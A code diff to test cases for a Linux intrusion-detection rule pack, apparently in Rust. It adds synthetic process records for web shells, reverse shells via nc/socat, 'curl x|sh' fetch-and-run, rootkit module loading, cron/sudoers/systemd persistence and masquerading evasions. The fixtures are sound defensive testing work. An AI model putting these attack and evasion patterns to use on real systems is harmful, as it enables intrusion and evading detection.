@@ -8,9 +8,8 @@ use crate::record::json::write_record;
 use crate::record::{Fork, NetKind};
 
 /// `r` as run from the executable `exe` (whatever its comm says).
-fn at_exe(mut r: Record, exe: &str) -> Record {
-    r.exe = Some(Arc::from(exe));
-    r
+fn at_exe(r: Record, exe: &str) -> Record {
+    r.with_exe(exe)
 }
 
 const MFD_CLOEXEC: u32 = 0x1;
@@ -30,6 +29,7 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
     let w = O_WRONLY | O_CREAT | O_TRUNC;
     let mut web_sh = exec(t(0), 200, 100, "nginx", "/usr/bin/dash", &["sh", "-c", "id"], ["pipe", "pipe", "pipe"]);
     web_sh.comm = "sh".into();
+    web_sh.parent_exe = Some(Arc::from("/usr/sbin/nginx"));
     let mut ssh_sh = exec(t(0), 200, 100, "sshd", "/usr/bin/bash", &["-bash"], TTY);
     ssh_sh.comm = "bash".into();
     let mut memfd_exec = exec(t(0), 300, 1, "bash", "/proc/self/fd/3", &["x"], ["none", "none", "none"]);
@@ -44,10 +44,23 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
         ["none", "none", "none"],
     );
     kworker_modprobe.ppid = 2;
+    // a process named like a kernel worker (prctl) is not one: it has an executable
+    let fake_kworker = child_of(
+        exec(t(5), 405, 77, "kworker/0:1", "/usr/sbin/modprobe", &["modprobe", "evil"], TTY),
+        "/usr/bin/python3.11",
+    );
     let mut lsmod = exec(t(0), 401, 1, "bash", "/usr/sbin/lsmod", &["lsmod"], TTY);
     lsmod.exe = Some(Arc::from("/usr/bin/kmod"));
-    let mut insmod = exec(t(0), 402, 1, "bash", "/usr/sbin/insmod", &["insmod", "rootkit.ko"], TTY);
+    let mut insmod =
+        child_of(exec(t(0), 402, 1, "bash", "/usr/sbin/insmod", &["insmod", "rootkit.ko"], TTY), "/usr/bin/bash");
     insmod.exe = Some(Arc::from("/usr/bin/kmod"));
+    // kmod picks its tool by argv[0]: `exec -a modprobe kmod`, a link named
+    // anything run with argv[0] modprobe, a renamed copy of kmod
+    let kmod = |ts: u64, filename: &str, exe: &str, args: &[&str]| {
+        let mut r = child_of(exec(t(ts), 406, 1, "bash", filename, args, TTY), "/usr/bin/bash");
+        r.exe = Some(Arc::from(exe));
+        r
+    };
     // named dpkg, but not the package manager's executable
     let mut fake_dpkg = chmod(t(4), 11, "dpkg", "/tmp/x", 0o4755);
     fake_dpkg.exe = Some(Arc::from("/tmp/dpkg"));
@@ -61,8 +74,16 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
                 // an exchange puts the other file at `path`: both are destinations
                 exchange(t(3), 12, "mv", "/etc/cron.d/e2scrub_all", "/tmp/job"),
                 exchange(t(4), 12, "mv", "/tmp/job", "/etc/cron.hourly/x"),
+                // named like a package manager, but not one: prctl(PR_SET_NAME, "dpkg"),
+                // a copy of sh named dpkg, a link named apt-get to bash
+                open(t(5), 13, "dpkg", "/etc/cron.d/x", w).with_exe("/usr/bin/python3.11"),
+                open(t(6), 13, "dpkg", "/etc/cron.d/x", w).with_exe("/tmp/dpkg"),
+                write(t(7), 13, "apt-get", "/etc/cron.daily/x").with_exe("/usr/bin/bash"),
             ],
             vec![
+                // the package manager itself, by its executable, whatever its comm
+                open(t(0), 10, "dpkg", "/etc/cron.d/pkg", w).with_exe("/usr/bin/dpkg"),
+                open(t(0), 10, "kworker/0:1", "/etc/cron.daily/pkg", w).with_exe("/usr/bin/rpm"),
                 open(t(0), 10, "cron", "/etc/crontab", O_RDONLY),
                 open(t(1), 10, "cron", "/etc/cron.d/e2scrub_all", O_RDONLY),
                 // moving a cron file away is not planting one
@@ -76,6 +97,7 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
                 write(t(1), 10, "tee", "/home/u/.config/systemd/user/evil.timer"),
                 rename(t(2), 10, "mv", "/tmp/x", "/lib/systemd/system/evil.service"),
                 exchange(t(3), 10, "mv", "/etc/systemd/system/ssh.service", "/tmp/x"),
+                open(t(4), 10, "dnf", "/etc/systemd/system/evil.service", w).with_exe("/dev/shm/dnf"),
             ],
             vec![
                 open(t(0), 10, "systemctl", "/etc/systemd/system/ssh.service", O_RDONLY | O_CLOEXEC),
@@ -103,8 +125,10 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
                 open(t(0), 10, "bash", "/home/u/.bashrc", O_WRONLY | O_APPEND),
                 write(t(1), 10, "bash", "/etc/profile.d/zz.sh"),
                 open(t(2), 10, "vim", "/root/.profile", w),
+                open(t(3), 10, "packagekitd", "/etc/profile.d/zz.sh", w).with_exe("/usr/bin/perl"),
             ],
             vec![
+                open(t(0), 10, "dpkg", "/etc/profile.d/locale.sh", w).with_exe("/usr/bin/dpkg"),
                 open(t(0), 10, "bash", "/home/u/.bashrc", O_RDONLY),
                 open(t(1), 10, "bash", "/etc/profile.d/locale.sh", O_RDONLY),
             ],
@@ -136,8 +160,10 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
                 open(t(0), 10, "bash", "/etc/sudoers.d/90-evil", w),
                 rename(t(1), 10, "visudo", "/etc/sudoers.tmp", "/etc/sudoers"),
                 exchange(t(2), 10, "mv", "/etc/sudoers.d/README", "/tmp/s"),
+                open(t(3), 10, "rpm", "/etc/sudoers.d/99-x", w).with_exe("/var/tmp/rpm"),
             ],
             vec![
+                open(t(0), 10, "x", "/etc/sudoers.d/pkg", w).with_exe("/usr/bin/dpkg"),
                 open(t(0), 10, "sudo", "/etc/sudoers", O_RDONLY),
                 open(t(1), 10, "sudo", "/etc/sudoers.d/README", O_RDONLY),
             ],
@@ -182,33 +208,83 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
         ),
         (
             "RG-EXEC-WEB-SHELL",
-            vec![web_sh.clone()],
             vec![
-                exec(t(0), 200, 100, "nginx", "/usr/bin/gzip", &["gzip", "-d"], ["pipe", "pipe", "pipe"]),
+                web_sh.clone(),
+                // the worker renamed itself (prctl); the shell is a link called x; argv[0] lies
+                child_of(
+                    renamed(exec(t(1), 201, 100, "kworker/0:0", "/usr/bin/bash", &["bash"], TTY), "x"),
+                    "/usr/sbin/php-fpm8.2",
+                ),
+                child_of(exec(t(2), 202, 100, "node", "/tmp/x", &["x", "-c", "id"], TTY), "/usr/bin/node")
+                    .with_exe("/usr/bin/dash"),
+                child_of(
+                    exec(t(3), 203, 100, "java", "/bin/sh", &["[kworker/1:2]", "-c", "id"], TTY),
+                    "/usr/lib/jvm/java-17/bin/java",
+                )
+                .with_exe("/usr/bin/busybox"),
+            ],
+            vec![
+                child_of(
+                    exec(t(0), 200, 100, "nginx", "/usr/bin/gzip", &["gzip", "-d"], ["pipe", "pipe", "pipe"]),
+                    "/usr/sbin/nginx",
+                ),
                 ssh_sh.clone(),
+                // a process named nginx is not nginx; a program named sh is not a shell
+                child_of(
+                    exec(t(1), 204, 100, "nginx", "/usr/bin/dash", &["sh", "-c", "id"], TTY),
+                    "/usr/bin/python3.11",
+                ),
+                child_of(renamed(exec(t(2), 205, 100, "nginx", "/usr/bin/ls", &["sh"], TTY), "sh"), "/usr/sbin/nginx"),
             ],
         ),
         (
             "RG-EXEC-REVERSE-SHELL",
-            vec![exec(t(0), 500, 499, "nc", "/usr/bin/bash", &["bash", "-i"], ["socket", "socket", "socket"])],
+            vec![
+                exec(t(0), 500, 499, "nc", "/usr/bin/bash", &["bash", "-i"], ["socket", "socket", "socket"]),
+                // a link named x; a copy of bash in /dev/shm named httpd; busybox's sh applet as argv[0]
+                exec(t(1), 502, 499, "nc", "/tmp/x", &["x", "-i"], ["socket", "socket", "socket"])
+                    .with_exe("/usr/bin/bash"),
+                exec(t(2), 503, 499, "nc", "/dev/shm/httpd", &["httpd"], ["socket", "socket", "tty"]),
+                exec(t(3), 504, 499, "socat", "/bin/sh", &["sh"], ["socket", "socket", "socket"])
+                    .with_exe("/usr/bin/busybox"),
+            ],
             vec![
                 exec(t(0), 500, 499, "sshd", "/usr/bin/bash", &["bash", "-i"], TTY),
                 exec(t(1), 501, 499, "make", "/usr/bin/sh", &["sh", "-c", "cc x.c"], ["pipe", "pipe", "pipe"]),
+                // an inetd service whose comm says bash
+                renamed(
+                    exec(t(2), 505, 1, "inetd", "/usr/sbin/in.tftpd", &["bash"], ["socket", "socket", "socket"]),
+                    "bash",
+                ),
             ],
         ),
         (
             "RG-SEQ-WEB-SHELL-CONNECT",
             vec![
-                exec(t(0), 600, 100, "nginx", "/usr/bin/bash", &["bash", "-c", "curl x|sh"], ["pipe", "pipe", "pipe"]),
+                child_of(
+                    exec(
+                        t(0),
+                        600,
+                        100,
+                        "kworker/0:0",
+                        "/usr/bin/bash",
+                        &["bash", "-c", "curl x|sh"],
+                        ["pipe", "pipe", "pipe"],
+                    ),
+                    "/usr/sbin/nginx",
+                ),
                 record(t(1), 601, 600, "bash", "/usr/bin/bash", "bash", Body::Fork(Fork { parent_tid: 600 })),
                 net(t(2), 601, 600, "curl", NetKind::Connect, "203.0.113.9", 443),
             ],
             vec![
                 // A shell of an sshd session connecting out.
-                exec(t(0), 700, 100, "sshd", "/usr/bin/bash", &["bash"], TTY),
+                child_of(exec(t(0), 700, 100, "sshd", "/usr/bin/bash", &["bash"], TTY), "/usr/sbin/sshd"),
                 net(t(1), 700, 100, "bash", NetKind::Connect, "203.0.113.9", 443),
                 // nginx connecting to its upstream itself.
                 net(t(2), 100, 1, "nginx", NetKind::Connect, "10.0.0.2", 8080),
+                // a parent that calls itself nginx
+                child_of(exec(t(3), 701, 102, "nginx", "/usr/bin/bash", &["bash"], TTY), "/tmp/nginx.py"),
+                net(t(4), 701, 102, "bash", NetKind::Connect, "203.0.113.9", 443),
             ],
         ),
         (
@@ -230,7 +306,7 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
         (
             "RG-SEQ-DECODE-TO-SHELL",
             vec![
-                exec(t(0), 901, 900, "bash", "/usr/bin/base64", &["base64", "-d"], ["pipe", "pipe", "tty"]),
+                exec(t(0), 901, 900, "bash", "/usr/bin/base64", &["base64", "-di"], ["pipe", "pipe", "tty"]),
                 exec(t(0), 902, 900, "bash", "/usr/bin/bash", &["bash"], ["pipe", "tty", "tty"]),
             ],
             vec![
@@ -242,7 +318,7 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
             "RG-SEQ-DECODE-TO-SHELL-R",
             vec![
                 exec(t(0), 902, 900, "bash", "/usr/bin/sh", &["sh"], ["pipe", "tty", "tty"]),
-                exec(t(0), 901, 900, "bash", "/usr/bin/base64", &["base64", "--decode"], ["pipe", "pipe", "tty"]),
+                exec(t(0), 901, 900, "bash", "/usr/bin/base64", &["base64", "-w0", "--dec"], ["pipe", "pipe", "tty"]),
             ],
             vec![
                 exec(t(0), 902, 900, "bash", "/usr/bin/bash", &["bash"], ["pipe", "tty", "tty"]),
@@ -251,11 +327,42 @@ fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
         ),
         (
             "RG-EVADE-KMOD-LOAD",
-            vec![insmod, exec(t(1), 403, 1, "bash", "/usr/sbin/modprobe", &["modprobe", "evil"], TTY)],
             vec![
-                lsmod,
+                insmod,
+                kmod(1, "/usr/sbin/modprobe", "/usr/sbin/modprobe", &["modprobe", "evil"]),
+                kmod(2, "/usr/bin/kmod", "/usr/bin/kmod", &["modprobe", "evil"]),
+                kmod(3, "/tmp/x/modprobe", "/usr/bin/kmod", &["/tmp/x/modprobe", "evil"]),
+                kmod(4, "/tmp/.k/x", "/tmp/.k/x", &["insmod", "/tmp/.k/r.ko"]),
+                kmod(5, "/dev/shm/modprobe", "/dev/shm/modprobe", &["modprobe", "evil"]),
+                kmod(6, "/usr/bin/kmod", "/usr/bin/kmod", &["kmod", "insmod", "/tmp/r.ko"]),
+                kmod(7, "/bin/busybox", "/usr/bin/busybox", &["busybox", "modprobe", "evil"]),
+                // no dry run in any spelling: a value that looks like one, options after the module
+                kmod(8, "/usr/sbin/modprobe", "/usr/bin/kmod", &["modprobe", "-C", "-n", "evil"]),
+                kmod(9, "/usr/sbin/modprobe", "/usr/bin/kmod", &["modprobe", "-C-n", "evil"]),
+                kmod(10, "/usr/sbin/modprobe", "/usr/bin/kmod", &["modprobe", "--config", "--dry-run", "evil"]),
+                kmod(11, "/usr/sbin/modprobe", "/usr/bin/kmod", &["modprobe", "-qa", "evil", "--", "-n"]),
+                fake_kworker,
+            ],
+            vec![
+                child_of(lsmod, "/usr/bin/bash"),
                 kworker_modprobe,
-                exec(t(2), 404, 1, "bash", "/usr/sbin/modprobe", &["modprobe", "-n", "evil"], TTY),
+                child_of(
+                    exec(t(2), 404, 1, "bash", "/usr/sbin/modprobe", &["modprobe", "-n", "evil"], TTY),
+                    "/usr/bin/bash",
+                ),
+                kmod(3, "/usr/sbin/modprobe", "/usr/bin/kmod", &["modprobe", "-nv", "evil"]),
+                kmod(4, "/usr/sbin/modprobe", "/usr/bin/kmod", &["modprobe", "evil", "--dry"]),
+                kmod(5, "/usr/sbin/modprobe", "/usr/bin/kmod", &["modprobe", "-qr", "evil"]),
+                kmod(
+                    6,
+                    "/usr/sbin/modprobe",
+                    "/usr/bin/kmod",
+                    &["modprobe", "-C", "/etc/m.conf", "--show-depends", "x"],
+                ),
+                kmod(7, "/usr/sbin/modprobe", "/usr/bin/kmod", &["modprobe", "--remove=yes", "x"]),
+                kmod(8, "/usr/sbin/modinfo", "/usr/bin/kmod", &["modinfo", "modprobe"]),
+                kmod(9, "/usr/bin/kmod", "/usr/bin/kmod", &["kmod", "list"]),
+                kmod(10, "/usr/bin/man", "/usr/bin/man", &["man", "modprobe"]),
             ],
         ),
         (
